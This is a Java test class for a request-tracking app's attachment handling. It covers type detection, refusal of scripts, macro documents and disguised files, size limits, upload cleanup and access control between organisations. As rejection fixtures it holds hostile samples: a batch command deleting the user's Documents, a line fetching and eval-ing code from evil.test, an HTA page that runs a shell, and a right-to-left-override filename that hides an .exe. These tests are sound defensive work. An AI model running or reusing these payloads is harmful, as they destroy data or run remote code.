package app.ponte.request;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;
import static org.assertj.core.api.Assertions.tuple;

import app.ponte.H2Test;
import app.ponte.SignedIn;
import app.ponte.SignedInServiceTest;
import app.ponte.TestClock;
import app.ponte.base.RejectedInputException;
import app.ponte.security.NotFoundInScopeException;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.FileTime;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.data.domain.PageRequest;

/** Files on requests: what is accepted, how it is kept, and who may download it. */
@H2Test
class AttachmentsTest extends SignedInServiceTest {

    /** The smallest file Tika recognises as a PDF from its bytes. */
    static final byte[] PDF = "%PDF-1.4\n1 0 obj << >> endobj\ntrailer << >>\n%%EOF\n".getBytes(StandardCharsets.US_ASCII);

    @Autowired
    RequestIntake intake;
    @Autowired
    RequestLists lists;
    @Autowired
    Conversation conversations;
    @Autowired
    Attachments attachments;
    @Autowired
    AttachmentProperties properties;
    @Autowired
    AttachmentStore store;
    @Autowired
    TestClock clock;

    @TempDir
    Path uploads;

    @Test
    void a_pdf_without_an_extension_is_kept_as_a_pdf_under_a_generated_name_and_comes_back_named_as_one()
            throws IOException {
        long id = as("leo@aurora.test", () -> intake.file(question("Invoice layout"),
                List.of(new NewFile("scan of invoice", upload("upload-1", PDF)))));

        AttachmentInfo listed = as("ana@aurora.test", () -> attachments.list(id)).getFirst();
        assertThat(listed.originalName()).isEqualTo("scan of invoice.pdf");
        assertThat(listed.contentType()).isEqualTo("application/pdf");
        assertThat(listed.sizeBytes()).isEqualTo(PDF.length);
        try (var stored = Files.list(properties.directory())) {
            assertThat(stored.map(path -> path.getFileName().toString()))
                    .noneMatch(name -> name.contains("invoice")).isNotEmpty();
        }
        AttachmentDownload download = as("ana@aurora.test", () -> attachments.open(listed.id()));
        try (InputStream content = download.content()) {
            assertThat(content.readAllBytes()).isEqualTo(PDF);
        }
        assertThat(download.originalName()).isEqualTo("scan of invoice.pdf");
    }

    @Test
    void a_pdf_named_like_an_image_is_refused_because_its_name_does_not_match_what_it_is() {
        RejectedInputException refusal = refusalOf(new NewFile("scan.png", upload("scan", PDF)));

        assertThat(refusal.messageKey()).isEqualTo("attachment.error.mismatch");
        assertThat(refusal.arguments()).containsExactly("scan.png", "png", "application/pdf");
    }

    @Test
    void a_batch_file_of_plain_text_is_refused_as_a_script() {
        RejectedInputException refusal = refusalOf(new NewFile("fix.bat",
                upload("fix", "del /q %USERPROFILE%\\Documents\\*\r\n".getBytes(StandardCharsets.US_ASCII))));

        assertThat(refusal.messageKey()).isEqualTo("attachment.error.script");
        assertThat(refusal.arguments()).containsExactly("fix.bat", "bat");
    }

    @Test
    void scripts_html_applications_and_programs_are_refused_by_name_whatever_their_content() {
        byte[] script = "fetch(\"https://evil.test/x\").then(r => r.text()).then(eval);\n".getBytes(StandardCharsets.UTF_8);
        byte[] page = "<html><script>new ActiveXObject(\"WScript.Shell\").Run(\"calc\")</script></html>"
                .getBytes(StandardCharsets.UTF_8);

        assertThat(refusalOf(new NewFile("update.js", upload("js", script))).arguments())
                .containsExactly("update.js", "js");
        assertThat(refusalOf(new NewFile("x.hta", upload("hta", page))).arguments()).containsExactly("x.hta", "hta");
        assertThat(refusalOf(new NewFile("FIX.BAT. ", upload("dots", script))).arguments())
                .containsExactly("FIX.BAT", "bat");
        assertThat(refusalOf(new NewFile("invoice.pdf.exe", upload("exe", PDF))).messageKey())
                .isEqualTo("attachment.error.script");
        assertThat(refusalOf(new NewFile("invoice\u202Efdp.exe", upload("rtl", PDF))).arguments())
                .containsExactly("invoicefdp.exe", "exe");
    }

    @Test
    void a_word_document_with_macros_is_refused_under_its_own_name_and_renamed_to_docx() {
        var docm = upload("docm", OfficeFiles.docm());

        for (NewFile file : List.of(new NewFile("report.docm", docm), new NewFile("report.docx", docm),
                new NewFile("report.docx", upload("disguised", OfficeFiles.docmDisguisedAsDocx())))) {
            RejectedInputException refusal = refusalOf(file);
            assertThat(refusal.messageKey()).as(file.toString()).isEqualTo("attachment.error.macro");
            assertThat(refusal.arguments()).containsExactly(file.originalName());
        }
    }

    @Test
    void an_excel_97_workbook_with_vba_is_refused_and_one_without_is_accepted() {
        RejectedInputException refusal = refusalOf(new NewFile("budget.xls", upload("vba", OfficeFiles.xls(true))));

        assertThat(refusal.messageKey()).isEqualTo("attachment.error.macro");
        SignedIn.run(users, "leo@aurora.test",
                () -> attachments.check(new NewFile("budget.xls", upload("plain", OfficeFiles.xls(false)))));
    }

    @Test
    void a_word_document_is_kept_as_the_word_document_it_is_and_a_log_file_under_its_own_name() {
        long id = as("leo@aurora.test", () -> intake.file(question("Report and log"),
                List.of(new NewFile("report.docx", upload("docx", OfficeFiles.docx())),
                        new NewFile("server.log", upload("log", "12:00 started\n".getBytes(StandardCharsets.UTF_8))))));

        assertThat(as("leo@aurora.test", () -> attachments.list(id)))
                .extracting(AttachmentInfo::originalName, AttachmentInfo::contentType)
                .containsExactly(
                        tuple("report.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
                        tuple("server.log", "text/plain"));
    }

    @Test
    void a_web_page_renamed_to_text_is_refused_with_what_it_really_is_and_the_request_is_not_filed() {
        var page = new NewFile("notes.txt", upload("upload-2",
                "<html><body><script>alert(1)</script></body></html>".getBytes(StandardCharsets.UTF_8)));

        Throwable refusal = catchThrowable(() -> as("leo@aurora.test",
                () -> intake.file(question("Sneaky page"), List.of(page))));

        assertThat(refusal).isInstanceOf(RejectedInputException.class);
        var rejected = (RejectedInputException) refusal;
        assertThat(rejected.field()).isEqualTo("attachments");
        assertThat(rejected.messageKey()).isEqualTo("attachment.error.type");
        assertThat(rejected.arguments()).containsExactly("notes.txt", "text/html");
        assertThat(as("leo@aurora.test", () -> lists.ours(new RequestFilter("sneaky page", null, null, null, null,
                false), PageRequest.of(0, 10))).getContent()).isEmpty();
    }

    @Test
    void a_file_over_the_limit_or_empty_is_refused_with_its_name() {
        var big = new NewFile("dump.csv", upload("upload-3", new byte[(int) properties.maxSize().toBytes() + 1]));
        var empty = new NewFile("empty.txt", upload("upload-4", new byte[0]));

        assertThat(refusalOf(big).messageKey()).isEqualTo("attachment.error.too-big");
        assertThat(refusalOf(big).arguments()).containsExactly("dump.csv", properties.maxSize().toMegabytes());
        assertThat(refusalOf(empty).messageKey()).isEqualTo("attachment.error.empty");
        assertThat(refusalOf(empty).arguments()).containsExactly("empty.txt");
    }

    @Test
    void waiting_files_a_crash_left_behind_are_deleted_at_start_and_fresh_ones_are_kept() throws IOException {
        Files.createDirectories(properties.incoming());
        Path abandoned = Files.write(properties.incoming().resolve("upload-abandoned.part"), PDF);
        Files.setLastModifiedTime(abandoned, FileTime.from(clock.instant().minus(Duration.ofDays(2))));
        Path fresh = Files.write(properties.incoming().resolve("upload-fresh.part"), PDF);
        Files.setLastModifiedTime(fresh, FileTime.from(clock.instant()));

        store.removeAbandoned();

        assertThat(abandoned).doesNotExist();
        assertThat(fresh).exists();
        Files.delete(fresh);
    }

    private RejectedInputException refusalOf(NewFile file) {
        Throwable refusal = catchThrowable(() -> SignedIn.run(users, "leo@aurora.test", () -> attachments.check(file)));
        assertThat(refusal).isInstanceOf(RejectedInputException.class);
        return (RejectedInputException) refusal;
    }

    @Test
    void files_on_an_internal_note_are_the_teams_and_another_organisation_cannot_download_any() {
        long id = as("leo@aurora.test", () -> intake.file(question("Slow exports"),
                List.of(new NewFile("export.pdf", upload("upload-5", PDF)))));
        SignedIn.run(users, "lead@ponte.test", () -> conversations.comment(id, "Profiler output attached.", true,
                List.of(new NewFile("profile.pdf", upload("upload-6", PDF)))));

        List<AttachmentInfo> forTeam = as("lead@ponte.test", () -> attachments.list(id));
        List<AttachmentInfo> forClient = as("leo@aurora.test", () -> attachments.list(id));
        assertThat(forTeam).extracting(AttachmentInfo::originalName).containsExactly("export.pdf", "profile.pdf");
        assertThat(forClient).extracting(AttachmentInfo::originalName).containsExactly("export.pdf");

        long internalFile = forTeam.getLast().id();
        long publicFile = forTeam.getFirst().id();
        assertThat(catchThrowable(() -> as("leo@aurora.test", () -> attachments.open(internalFile))))
                .isInstanceOf(NotFoundInScopeException.class);
        assertThat(catchThrowable(() -> as("rita@meridian.test", () -> attachments.open(publicFile))))
                .isInstanceOf(NotFoundInScopeException.class);
        assertThat(catchThrowable(() -> as("rita@meridian.test", () -> attachments.list(id))))
                .isInstanceOf(NotFoundInScopeException.class);
    }

    private Path upload(String name, byte[] content) {
        try {
            return Files.write(uploads.resolve(name), content);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static RequestDraft question(String title) {
        return RequestDraft.simple(RequestKind.QUESTION, title, "Details of " + title);
    }
}
